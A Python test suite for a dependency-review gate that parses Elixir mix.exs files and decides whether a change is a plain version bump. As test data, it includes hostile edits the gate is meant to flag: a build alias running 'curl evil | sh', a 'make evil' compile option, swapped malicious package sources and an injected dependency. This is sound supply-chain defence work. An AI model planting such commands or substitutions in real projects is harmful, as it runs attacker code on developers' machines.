"""Elixir `mix.exs` dependency lists (the thirty-fifth deps set: opentelemetry-erlang-contrib's instrumentation
libraries commit no mix.lock, so Renovate's `{:nebulex, "== 2.6.6", …}` → `"== 3.0.4"` was read as nothing and no
problem, 5 commits). Real-shaped files, look-alikes (a tuple in a comment, a heredoc, a sigil, a computed list) and
attacks; one git repository per case, both modes."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.deps import mixexs
from gatekeeper.deps.model import ManifestError
from gatekeeper.deps.registry import format_for
from tests.deltas import moves, partial, patch, refused, tree
from tests.gitrepo import edited_commits
from tests.test_deps_gate import Case, gate

MIX_EXS = '''\
defmodule OpentelemetryNebulex.MixProject do
  use Mix.Project

  @moduledoc """
  Add it to your deps:

      {:opentelemetry_nebulex, "~> 0.1"}
  """

  def project do
    [
      app: :opentelemetry_nebulex,
      version: "0.2.0",
      elixir: "~> 1.15",
      start_permanent: Mix.env() == :prod,
      deps: deps(),
      aliases: [setup: ["deps.get"]],
      description: ~S(Trace {:fake, "9.9.9"} calls)
    ]
  end

  def application do
    [extra_applications: [:logger]]
  end

  defp deps do
    [
      # {:commented, "~> 1.0"},
      {:dialyxir, "== 1.4.7", only: [:dev, :test], runtime: false},
      {:ex_doc, "== 0.40.3", only: ~w(dev)a, runtime: false},
      {:nebulex, "== 2.6.6", only: [:dev, :test]},
      {:opentelemetry_api, "~> 1.4"},
      {:decimal, "== 3.1.1", only: [:dev, :test], override: true},
      {:hpax, "~> 1.0", hex: :hpax_fork},
      {:private, "~> 2.0", organization: "acme"},
      {:telemetry, github: "beam-telemetry/telemetry", tag: "v1.3.0"},
      {:sibling, in_umbrella: true},
      {:local, path: "../local"},
      {:esbuild, "~> 0.10", runtime: Mix.env() == :dev}
    ]
  end
end
'''
PATH = "instrumentation/opentelemetry_nebulex/mix.exs"


def _commits(tmp_path: Path, edit: dict[str, str], body: str = MIX_EXS) -> tuple[object, str, str]:
    return edited_commits(tmp_path, {PATH: body}, {PATH: edit})


def test_mix_exs_is_a_format() -> None:
    fmt = format_for(PATH)
    assert fmt is not None and fmt.name == "mix.exs"
    assert format_for("lib/mix.exs.md") is None


def test_the_whole_list_is_read_and_nothing_else() -> None:
    found = {d.name: (d.version, d.scope, d.options) for d in mixexs.parse_mix_exs(PATH, MIX_EXS.encode())}
    assert found == {
        "dialyxir": ("== 1.4.7", "dev", "only=[:dev, :test];runtime=false"),
        "ex_doc": ("== 0.40.3", "dev", "only=[:dev];runtime=false"),
        "nebulex": ("== 2.6.6", "dev", "only=[:dev, :test]"),
        "opentelemetry_api": ("~> 1.4", "runtime", ""),
        "decimal": ("== 3.1.1", "dev", "only=[:dev, :test];override=true"),
        "hpax_fork": ("~> 1.0", "runtime", ""),
        "hexpm:acme/private": ("~> 2.0", "runtime", ""),
        "telemetry@git+https://github.com/beam-telemetry/telemetry.git": ("v1.3.0", "runtime", ""),
        "sibling@umbrella": ("", "runtime", ""),
        "local@path:../local": ("", "runtime", ""),
        "esbuild": ("~> 0.10", "runtime", "runtime=Mix.env() == :dev"),
    }  # not the comment's, the @moduledoc heredoc's nor the sigil's tuple


@pytest.mark.parametrize(("edit", "name", "old", "new"), [
    ({'"== 2.6.6"': '"== 3.0.4"'}, "nebulex", "== 2.6.6", "== 3.0.4"),
    ({'"== 0.40.3", only: ~w(dev)a, runtime: false': '"== 0.40.4", only: ~w(dev)a, runtime: false'},
     "ex_doc", "== 0.40.3", "== 0.40.4"),
    ({'"~> 1.4"}': '"~> 1.5"}'}, "opentelemetry_api", "~> 1.4", "~> 1.5"),
])
def test_a_bump_is_read_in_both_modes(tmp_path: Path, edit: dict[str, str], name: str, old: str, new: str) -> None:
    repo, base, head = _commits(tmp_path, edit)
    for delta in (tree(repo, base, head), patch(repo, base, head)):  # type: ignore[arg-type]
        assert moves(delta) == {("hex", name, old, new)}, delta
        assert not delta.problems, delta.problems


@pytest.mark.parametrize(("edit", "outside"), [
    ({'{:fake, "9.9.9"}': '{:fake, "10.0.0"}'}, True),  # a sigil's text
    ({'{:opentelemetry_nebulex, "~> 0.1"}': '{:opentelemetry_nebulex, "~> 0.2"}'}, True),  # the heredoc's text
    ({'# {:commented, "~> 1.0"},': '# {:commented, "~> 2.0"},'}, False),  # a comment inside the list
])
def test_a_look_alike_is_no_dependency(tmp_path: Path, edit: dict[str, str], outside: bool) -> None:
    repo, base, head = _commits(tmp_path, edit)
    whole = tree(repo, base, head)
    assert not whole.changes, whole
    assert partial(whole, PATH) == outside, whole  # outside the list: the program changed (its residue)
    shown = patch(repo, base, head)
    assert not shown.changes and partial(shown, PATH), shown  # never a bump read from a hunk


@pytest.mark.parametrize("edit", [
    # build logic beside a bump: an alias that runs a command, a compiler path
    {'"== 2.6.6"': '"== 3.0.4"', 'aliases: [setup: ["deps.get"]]': 'aliases: [setup: ["cmd curl evil | sh"]]'},
    {'"== 2.6.6"': '"== 3.0.4"', "extra_applications: [:logger]": "extra_applications: [:logger, :ssh]"},
])
def test_build_logic_beside_a_bump_is_a_problem(tmp_path: Path, edit: dict[str, str]) -> None:
    repo, base, head = _commits(tmp_path, edit)
    for delta in (tree(repo, base, head), patch(repo, base, head)):  # type: ignore[arg-type]
        assert partial(delta, PATH), delta


@each_case("edit", [
    {'{:nebulex, "== 2.6.6", only: [:dev, :test]}': '{:nebulex, "== 3.0.4", only: [:dev, :test], override: true}'},
    {'{:nebulex, "== 2.6.6", only: [:dev, :test]}': '{:nebulex, github: "evil/nebulex", tag: "v3.0.4"}'},
    {'{:nebulex, "== 2.6.6", only: [:dev, :test]}': '{:nebulex, "== 3.0.4", compile: "make evil"}'},
    {'{:nebulex, "== 2.6.6", only: [:dev, :test]}': '{:nebulex, "== 3.0.4", hex: :nebulex_evil}'},
    {'github: "beam-telemetry/telemetry"': 'github: "evil/telemetry"'},
    {'{:nebulex, "== 2.6.6", only: [:dev, :test]}': '{:nebulex, "== 3.0.4"}'},  # a test dependency into prod
    {"runtime: Mix.env() == :dev}": "runtime: Mix.env() != :dev}"},
])
def test_a_source_or_option_move_is_never_a_plain_bump(tmp_path: Path, edit: dict[str, str]) -> None:
    repo, base, head = _commits(tmp_path, edit)
    for delta in (tree(repo, base, head), patch(repo, base, head)):  # type: ignore[arg-type]
        assert delta.changes or partial(delta, PATH), delta
        assert all(c.change != "upgraded" for c in delta.changes), delta  # added/removed, changed, or refused


def test_a_scope_move_is_seen_from_the_tree(tmp_path: Path) -> None:
    edit = {'{:nebulex, "== 2.6.6", only: [:dev, :test]}': '{:nebulex, "== 3.0.4", only: [:dev, :test, :prod]}'}
    repo, base, head = _commits(tmp_path, edit)
    assert {(c.change, c.scope) for c in tree(repo, base, head).changes} == {("removed", "dev"), ("added", "runtime")}


COMPUTED = [
    MIX_EXS.replace("runtime: Mix.env() == :dev}\n    ]\n  end", "runtime: Mix.env() == :dev}\n"
                    "    ] ++ extra_deps()\n  end"),
    MIX_EXS.replace("defp deps do", "defp deps(:test) do"),
    MIX_EXS.replace("deps: deps(),", "deps: deps(Mix.env()),"),
    MIX_EXS.replace("deps: deps(),", "deps: deps() ++ more(),"),
    MIX_EXS.replace('{:opentelemetry_api, "~> 1.4"},', '{:opentelemetry_api, System.get_env("V")},'),
    MIX_EXS.replace('{:opentelemetry_api, "~> 1.4"},', '{:opentelemetry_api, "~> #{@v}"},'),
    MIX_EXS.replace('{:opentelemetry_api, "~> 1.4"},', "dep(:opentelemetry_api),"),
    MIX_EXS.replace("runtime: Mix.env() == :dev", "runtime: System.get_env(\"X\") == :dev"),
    MIX_EXS.replace("runtime: Mix.env() == :dev", "only: Mix.env()"),
    MIX_EXS.replace("only: ~w(dev)a", "only: ~w(dev)"),  # strings, not atoms
    MIX_EXS.replace("only: ~w(dev)a", "only: ~w(#{@env})a"),
    MIX_EXS.replace("defp deps do", "defp deps do\n    Enum.map(@names, & &1)\n  end\n\n  defp old_deps do"),
    MIX_EXS.replace("  defp deps do", "  defp deps do\n    []\n  end\n\n  defp deps do"),
]


@each_case("body", COMPUTED)
def test_a_computed_list_is_a_problem_not_silence(tmp_path: Path, body: str) -> None:
    with pytest.raises(ManifestError):
        mixexs.parse_mix_exs(PATH, body.encode())
    repo, base, head = _commits(tmp_path, {'"== 2.6.6"': '"== 3.0.4"'}, body)
    whole = tree(repo, base, head)
    assert not whole.changes and {p.kind for p in whole.problems if p.manifest == PATH} == {"unparsable"}, whole


@each_case("line", [
    '{:nebulex, "== 3.0.4", only: [:dev, :test]}, {:evil, "1.0.0"}',  # two tuples
    '{:nebulex, "== 3.0.4"',  # a tuple that goes on
    '{:nebulex, github: "o/r", tag: "v3", override: true},',  # a source with an option a patch does not read
    '{:nebulex, path: "../nebulex"},',  # a local source (a git source and its ref are read: round 59)
    '{:nebulex, "== 3.0.4", override: true},',
    "deps: [],",
    '"== 3.0.4",',
])
def test_a_changed_line_other_than_one_plain_tuple_is_refused(line: str) -> None:
    with pytest.raises(ManifestError):
        mixexs.mix_exs_line([("    [", False), (line, True)], 1)


def test_a_hunk_inside_a_heredoc_is_refused() -> None:
    side = [('  @moduledoc """', False), ("  Add:", False), ('      {:x, "~> 1.0"}', True)]
    with pytest.raises(ManifestError):
        mixexs.mix_exs_line(side, 2)


def test_a_line_with_a_trailing_comment_is_read() -> None:
    pairs = mixexs.mix_exs_line([('      {:plug, "== 1.20.2", only: [:test]}, # pinned', True)], 0)
    assert [p[:2] for p in pairs] == [("plug", "== 1.20.2")]


def _mix_exs(data: str) -> None:
    refused(lambda: mixexs.parse_mix_exs("mix.exs", data.encode()))


def _nested(size: int) -> str:
    return "deps: [" * (size // 8) + "]" * (size // 8)


# 100-600 KB texts under a 2 CPU-s budget, no ratio, until suite round 32: each reads or is refused the same at 16, 64
# and ~585 KiB; linear at 16/64 KiB now (the nested lists were 420 KB: each inner list scanned anew took 424 CPU-s
# before its fix)
@each_case(("read", "text", "what"), [
    (_mix_exs, repeated('    {:a, "1", only: [:dev]},\n', "defp deps do\n  [\n", "  ]\nend\n"), "a long list"),
    (_mix_exs, repeated('"#{'), "open interpolations"),
    (_mix_exs, repeated("["), "open brackets"),
    (_mix_exs, repeated("deps "), "bare words"),
    (_mix_exs, _nested, "nested lists"),
    (_mix_exs, repeated("~w("), "open sigils"),
    (_mix_exs, repeated('"""\n'), "heredoc quotes"),
    (lambda line: refused(lambda: mixexs.mix_exs_line([(line, True)], 0)), repeated('"x", ', "{:a, ", "}"),
     "a long line"),
], ids=lambda value: value if isinstance(value, str) else "")
def test_hostile_input_stays_linear(read: Callable[[str], None], text: Callable[[int], str], what: str) -> None:
    assert_linear(read, text, budget=0.5)


@pytest.mark.parametrize("tree", [False, True], ids=["patch", "tree"])
@pytest.mark.parametrize(("edit", "outcome"), [
    ({'"== 1.4.7"': '"== 1.4.8"'}, "allow"),  # a patch-level bump of a dev tool
    ({'"== 1.4.7"': '"== 1.4.8"', 'aliases: [setup: ["deps.get"]]': 'aliases: [setup: ["cmd sh evil.sh"]]'}, "review"),
    ({'"== 1.4.7"': '"== 1.4.8"', '{:local, path: "../local"}': '{:local, path: "../local"}, {:evil, "1.0.0"}'},
     "review"),  # a new dependency beside the bump
])
def test_the_gate_allows_a_bump_and_reviews_what_rides_on_it(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                             edit: dict[str, str], outcome: str, tree: bool) -> None:
    head = MIX_EXS
    for old, new in edit.items():
        head = head.replace(old, new)
    decision = gate(capsys, Case(tmp_path, {PATH: MIX_EXS}, {PATH: head}), tree)
    assert decision["outcome"] == outcome, decision["reasons"]
